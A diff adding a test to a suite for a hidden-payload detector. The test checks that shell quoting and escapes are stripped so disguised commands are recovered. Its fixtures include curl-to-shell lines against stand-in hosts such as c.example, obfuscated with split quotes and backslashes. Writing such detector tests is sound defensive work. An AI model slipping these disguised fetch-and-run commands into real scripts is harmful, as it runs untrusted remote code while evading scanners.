@@ -135,6 +135,18 @@ describe('findHiddenPayloads', () => {
     ]);
   });
 
+  it('removes quotes and escapes inside shell words, as the shell does, and leaves whole-word quoting alone', () => {
+    const found = payloadsOf({
+      'scripts/a.sh': 'curl -s https://c.example/i | s""h\nc\'u\'rl -s https://c.example/j | "ba"sh\nc\\url -O https://c.example/k\necho "$HOME" \'plain\' "two words"\nA=1\necho it\'s "$A"\n',
+    });
+    assert.deepEqual(found, [
+      { how: 'shell quoting', text: 'curl -s https://c.example/i | sh', literal: 'curl -s https://c.example/i | s""h' },
+      { how: 'shell quoting', text: 'curl -s https://c.example/j | bash', literal: "c'u'rl -s https://c.example/j | \"ba\"sh" },
+      { how: 'shell quoting', text: 'curl -O https://c.example/k', literal: 'c\\url -O https://c.example/k' },
+      { how: 'shell variables', text: 'echo its "1"', literal: 'echo it\'s "$A"' },
+    ]);
+  });
+
   it('writes out the command an argument list runs, when every argument is a literal', () => {
     const found = payloadsOf({
       'scripts/a.py': 'import subprocess\nsubprocess.run(["pip", "install", "--index-url", "https://pkgs.example/simple", "tool"])\nsubprocess.run(["git", "commit", "-m", msg])\n',
